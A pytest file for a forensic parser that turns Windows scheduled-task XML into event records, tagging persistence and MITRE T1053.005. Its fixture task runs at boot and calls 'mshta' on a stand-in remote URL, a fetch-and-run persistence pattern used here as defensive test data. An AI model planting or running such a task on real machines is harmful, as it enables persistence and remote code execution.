"""Scheduled tasks as files."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest

from ingestion.evidence.artefacts.scheduled_task import ScheduledTask
from tests.ingestion.evidence.artefacts import samples

PARSER = ScheduledTask()
PATH = "Windows/System32/Tasks/Updates/Nightly"
XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
 <RegistrationInfo><Date>{}</Date></RegistrationInfo><Triggers><BootTrigger/></Triggers>
 <Principals><Principal id="Author"><UserId>UNIV\\jdupont</UserId></Principal></Principals>
 <Actions><Exec><Command>C:\\a.exe</Command></Exec><Exec><Command>mshta</Command><Arguments>http://a.example/x</Arguments></Exec></Actions>
</Task>"""


def test_each_action_is_a_record(tmp_path: Path) -> None:
    content = XML.format("2026-10-30T02:11:09").encode("utf-16")
    one = samples.artefact(tmp_path, content, PATH)
    assert PARSER.wants(one.item, content[:4096])
    first, second = samples.parsed(PARSER, one).records
    assert first["process.executable"] == "C:\\a.exe"
    assert first["tags"] == ["persistence"]
    assert second["process.command_line"] == "mshta http://a.example/x"
    assert second["tags"] == ["persistence", "unusual"]
    assert second["threat.technique.id"] == ["T1053.005"]
    assert second["user.name"] == "jdupont"
    assert second["message"] == (
        "Scheduled task \\Updates\\Nightly by nobody named, started by boot: mshta http://a.example/x "
        "(registered 2026-10-30T02:11:09, local time)"
    )


def test_a_date_with_its_offset_is_an_instant_and_one_without_is_none(tmp_path: Path) -> None:
    for date, instant in (("2026-10-30T02:11:09+01:00", "2026-10-30T01:11:09.000000Z"), ("2026-10-30T02:11:09", None)):
        one = samples.artefact(tmp_path, XML.format(date).encode("utf-16"), PATH)
        assert samples.parsed(PARSER, one).records[0]["@timestamp"] == instant


@pytest.mark.parametrize("content", [b"", b"<Task", XML.encode("utf-16")[:300]])
def test_what_is_cut_off_is_told(content: bytes, tmp_path: Path) -> None:
    found = samples.parsed(PARSER, samples.artefact(tmp_path, content, PATH))
    assert (found.records, len(found.faults)) == ([], 1)


def test_only_tasks_are_wanted(tmp_path: Path) -> None:
    other = samples.artefact(tmp_path, b"x", "Users/a/page.xml").item
    assert not PARSER.wants(other, b"<?xml version='1.0'?><html/>")
    assert not PARSER.wants(other, b"MZ\x90\0")


@pytest.mark.shareddata
@pytest.mark.parametrize("archive", [samples.AGE, samples.VELOCIRAPTOR])
def test_finds_every_task_of_the_samples(archive: str, tmp_path: Path) -> None:
    samples.require()
    told = []
    for name, content in samples.members(archive).items():
        one = samples.artefact(tmp_path, content, name)
        if PARSER.wants(one.item, content[:4096]):
            for record in samples.parsed(PARSER, one).records:
                facts = orjson.loads(record["event.original"])
                told.append({name: facts[name] for name in ("uri", "command", "arguments", "author")})
    expected = samples.expected(archive)["scheduled_tasks"]
    assert sorted(told, key=str) == sorted(expected, key=str)
